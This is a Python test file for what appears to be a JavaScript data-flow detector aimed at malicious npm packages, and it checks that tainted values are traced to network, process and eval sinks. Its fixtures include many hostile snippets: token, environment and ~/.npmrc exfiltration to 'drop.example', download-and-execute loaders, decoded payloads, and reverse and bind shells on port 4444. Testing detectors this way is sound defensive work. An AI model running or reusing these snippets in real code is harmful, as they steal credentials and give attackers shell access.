"""Where the data that reaches a call comes from, inside one file."""

from __future__ import annotations

import pytest

from app.core.specimen import FactId
from tests.worker.inspection.facts.told_javascript import facts, read

SENT = {
    "in the body": """
        const t = process.env.NPM_TOKEN;
        fetch('https://drop.example/', { method: 'POST', body: t });""",
    "in the address": """
        const t = process.env.NPM_TOKEN;
        fetch(`https://drop.example/?t=${encodeURIComponent(t)}`);""",
    "through names and JSON": """
        const data = { t: process.env.NPM_TOKEN }; const body = JSON.stringify({ ...data, v: 1 });
        fetch('https://drop.example/', { body });""",
    "through base64": """
        const t = Buffer.from(process.env.NPM_TOKEN).toString('base64');
        fetch('https://drop.example/' + t);""",
    "through methods": """
        const t = process.env.NPM_TOKEN.trim().split('').reverse().join('').slice(1);
        fetch('https://drop.example/' + t);""",
    "through a function of the file": """
        const pack = x => Buffer.from(x).toString('hex'), t = pack(process.env.NPM_TOKEN);
        fetch('https://drop.example/' + t);""",
    "through a parameter": """
        send(process.env.NPM_TOKEN); function send(what) {
          fetch('https://drop.example/', { body: what }); }""",
    "through a method of a class": """
        class A { run() { this.send(process.env.NPM_TOKEN); } send(what) {
          fetch('https://drop.example/', { body: what }); } }""",
    "through a method of an object": """
        const a = { send(what) { return go({ what }); } }; a.send(process.env.NPM_TOKEN); function go(body) {
          fetch('https://drop.example/', body); }""",
    "through a list": """
        const all = []; all.push(process.env.NPM_TOKEN);
        fetch('https://drop.example/', { body: all.join() });""",
    "through a property": """
        const out = {}; out.a = {}; out.a.b = process.env.NPM_TOKEN;
        fetch('https://drop.example/', { body: JSON.stringify(out) });""",
    "through an asynchronous function": """
        const read = async () => { const t = process.env.NPM_TOKEN; return t; };
        fetch('https://drop.example/', { body: await read() });""",
    "through a compiler's helper for asynchronous functions": """
        const read = () => __awaiter(void 0, void 0, void 0, function* () { return process.env.NPM_TOKEN; });
        read().then(t => fetch('https://drop.example/', { body: t }));""",
    "through a promise": """
        Promise.resolve(process.env.NPM_TOKEN).then(t => t + '!').then(t =>
          fetch('https://drop.example/', { body: t }));""",
    "through a callback of the file's own": """
        function withToken(use) { use(process.env.NPM_TOKEN); } withToken(t => {
          fetch('https://drop.example/', { body: t }); });""",
    "through a variable of the module": """
        let t; function init() { t = process.env.NPM_TOKEN; } function flush() {
          fetch('https://drop.example/', { body: t }); }""",
    "through a package of somebody else": """
        const x = require('yaml').stringify({ t: process.env.NPM_TOKEN });
        fetch('https://drop.example/', { body: x });""",
    "with apply": """
        const a = ['https://drop.example/', { body: process.env.NPM_TOKEN }];
        fetch.apply(null, a);""",
}


@pytest.mark.parametrize("source", SENT.values(), ids=SENT.keys())
def test_a_token_is_followed_to_where_it_is_sent(source: str) -> None:
    found = facts(source)
    assert "2 network fetch -> drop.example <- environment 1 NPM_TOKEN" in found


FLOWS = {
    "a credential file through a request": (
        """
        const https = require('https'), fs = require('fs'), home = require('os').homedir();
        const token = fs.readFileSync(home + '/.npmrc', 'utf8');
        const req = https.request({ host: 'drop.example', method: 'POST' }, res => {});
        req.write(JSON.stringify({ token }));
        req.end();""",
        ["4 network http.ClientRequest.write -> drop.example <- credential-file 2 ~/.npmrc"],
    ),
    "a credential file with a callback": (
        """
        const fs = require('fs');
        fs.readFile('/root/.npmrc', (error, data) => {
          require('axios').post('https://drop.example/', data); });""",
        ["3 network axios.post -> drop.example <- credential-file 2 /root/.npmrc"],
    ),
    "the whole environment": (
        """
        const all = {};
        for (const k of Object.keys(process.env)) all[k] = process.env[k];
        fetch('https://drop.example/', { body: JSON.stringify(all) });""",
        ["3 network fetch -> drop.example <- environment 2 *"],
    ),
    "the whole environment by name service": (
        """
        const e = Buffer.from(JSON.stringify(process.env)).toString('hex');
        require('dns').resolve(e.slice(0, 60) + '.drop.example', () => {});""",
        ["2 network dns.resolve -> drop.example <- environment 1 *"],
    ),
    "credentials of a machine in a cloud": (
        """
        const role = await (await fetch('http://169.254.169.254/latest/meta-data/iam/')).text();
        fetch('https://drop.example/', { body: role });""",
        [
            "1 network fetch -> 169.254.169.254",
            "2 network fetch -> drop.example <- download 1 fetch <- metadata-service 1 169.254.169.254",
        ],
    ),
    "the output of a program": (
        """
        const out = require('child_process').execSync('whoami').toString();
        fetch('https://drop.example/?' + out);""",
        ["2 network fetch -> drop.example <- process 1 child_process.execSync"],
    ),
    "code that was fetched": (
        """
        const r = await fetch('https://files.example/x.js');
        eval(await r.text());""",
        ["2 dynamic-code eval <- download 1 fetch"],
    ),
    "code that was fetched, handed over by name": (
        "fetch('https://files.example/x.js').then(r => r.text()).then(eval);",
        ["1 dynamic-code eval <- download 1 fetch"],
    ),
    "code that comes in pieces": (
        """
        require('https').get('https://files.example/x.js', res => {
          let code = '';
          res.on('data', part => { code += part; });
          res.on('end', () => new Function('require', code)(require)); });""",
        ["4 dynamic-code Function <- download 1 https.get"],
    ),
    "code behind a promise": (
        """
        const get = url => new Promise((resolve, reject) => {
          require('https').get(url, r => { let s = ''; r.on('data', d => s += d); r.on('end', () => resolve(s)); }); });
        get('https://files.example/x.js').then(code => require('vm').runInThisContext(code));""",
        ["3 dynamic-code vm.runInThisContext <- download 2 https.get"],
    ),
    "a command that was fetched": (
        """
        const cp = require('child_process');
        require('axios').get('https://files.example/c').then(r => cp.exec(r.data));""",
        ["2 process child_process.exec <- download 2 axios.get"],
    ),
    "a program that is written and started": (
        """
        const fs = require('fs'), cp = require('child_process');
        const bin = require('path').join(require('os').tmpdir(), 'tool');
        require('https').get('https://files.example/tool', res => {
          res.pipe(fs.createWriteStream(bin)).on('close', () => {
            cp.spawn(bin, ['--now']); }); });""",
        [
            "4 file-write /tmp/tool <- download 3 https.get",
            "5 process child_process.spawn <- download 3 https.get",
        ],
    ),
    "a program under a name that nobody knows": (
        """
        const fs = require('fs/promises'), cp = require('child_process'), where = pick();
        await fs.writeFile(where, Buffer.from(await (await fetch('https://files.example/t')).arrayBuffer()));
        cp.exec(`chmod +x ${where} && ${where}`);""",
        [
            "2 file-write fs.promises.writeFile <- download 2 fetch",
            "3 process child_process.exec <- download 2 fetch",
        ],
    ),
    "a module that is written and loaded": (
        """
        require('fs').writeFileSync('/tmp/payload.js', atob(blob));
        require('/tmp/payload.js');""",
        ["1 file-write /tmp/payload.js <- decoded 1 atob", "2 dynamic-code require <- decoded 1 atob"],
    ),
    "a payload that is decoded": (
        "eval(Buffer.from(blob, 'base64').toString());",
        ["1 dynamic-code eval <- decoded 1 Buffer.from(base64)"],
    ),
    "a payload as character codes": (
        """
        const run = codes => { let s = ''; for (const c of codes) s += String.fromCharCode(c ^ 7); return s; };
        Function(run(blob))();""",
        ["2 dynamic-code Function <- decoded 1 String.fromCharCode"],
    ),
    "a payload that is unpacked": (
        """
        const zlib = require('zlib');
        eval(zlib.inflateSync(Buffer.from(blob, 'base64')).toString());""",
        ["2 dynamic-code eval <- decoded 2 Buffer.from(base64) <- decoded 2 zlib.inflateSync"],
    ),
    "a shell at the end of a socket": (
        """
        const net = require('net'), sh = require('child_process').spawn('/bin/sh', []);
        const s = net.connect(4444, 'drop.example', () => {
          s.pipe(sh.stdin);
          sh.stdout.pipe(s); });""",
        [
            "2 network net.connect -> drop.example",
            "3 process child_process.ChildProcess.stdin.write <- download 2 net.connect",
            "4 network net.Socket.write -> drop.example <- process 1 child_process.spawn",
        ],
    ),
    "a shell that listens": (
        """
        require('net').createServer(s => {
          s.on('data', d => require('child_process').exec(d.toString(), (e, out) => s.write(out))); }).listen(4444);""",
        [
            "1 network net.createServer",
            "2 network net.Socket.write <- process 2 child_process.exec",
            "2 process child_process.exec <- download 1 net.createServer",
        ],
    ),
    "standard input of a shell": (
        """
        const cp = require('child_process'), code = await (await fetch('https://files.example/x')).text();
        cp.execSync('sh', { input: code });""",
        ["2 process child_process.execSync <- download 1 fetch"],
    ),
    "a secret that is kept": (
        "require('fs').writeFileSync('/tmp/.cache', JSON.stringify(process.env));",
        ["1 file-write /tmp/.cache <- environment 1 *"],
    ),
    "a socket of the browser": (
        """
        const ws = new WebSocket('wss://drop.example/');
        ws.send(process.env.API_KEY);""",
        ["2 network WebSocket.send -> drop.example <- environment 2 API_KEY"],
    ),
}


@pytest.mark.parametrize(("source", "expected"), FLOWS.values(), ids=FLOWS.keys())
def test_data_is_followed_into(source: str, expected: list[str]) -> None:
    found = facts(source)
    flows = [line for line in found if " <- " in line]
    assert flows == [line for line in expected if " <- " in line]
    assert set(expected) <= set(found)


DRY = {
    "the environment of a child": """
        const cp = require('child_process');
        cp.spawn('ls', ['-l'], { env: { ...process.env, TOKEN: process.env.NPM_TOKEN }, cwd: process.env.HOME });""",
    "another key of the same object": """
        const o = { token: process.env.NPM_TOKEN, url: 'https://files.example/' };
        fetch(o.url);""",
    "a comparison": "fetch(process.env.CI === 'true' ? 'https://a.example/' : 'https://b.example/');",
    "a length": "fetch('https://a.example/?' + process.env.NPM_TOKEN.length);",
    "a branch that came over the network": """
        const { branch } = await (await fetch('https://files.example/x')).json();
        require('child_process').execSync(`git checkout ${branch}`);""",
    "a program whose argument came over the network": """
        const { name } = await (await fetch('https://files.example/x')).json();
        require('child_process').execFile('git', ['checkout', name]);""",
    "a function of the same name elsewhere": """
        function a() { function send(x) { fetch(x); } send('https://a.example/'); }
        function b() { function send(x) { log(x); } send(process.env.NPM_TOKEN); }""",
}


@pytest.mark.parametrize("source", DRY.values(), ids=DRY.keys())
def test_nothing_flows_from(source: str) -> None:
    assert [line for line in facts(source) if " <- " in line] == []


def test_a_loop_of_names_ends_and_loses_nothing() -> None:
    found = read("""
        let a = process.env.NPM_TOKEN, b = a, c;
        function turn(x) { c = b + x; a = c; b = a; return turn(c); }
        turn(a); fetch('https://drop.example/', { body: c });
    """).facts
    sent = next(fact for fact in found if fact.id is FactId.NETWORK)
    assert [origin.detail for origin in sent.origins] == ["NPM_TOKEN"]
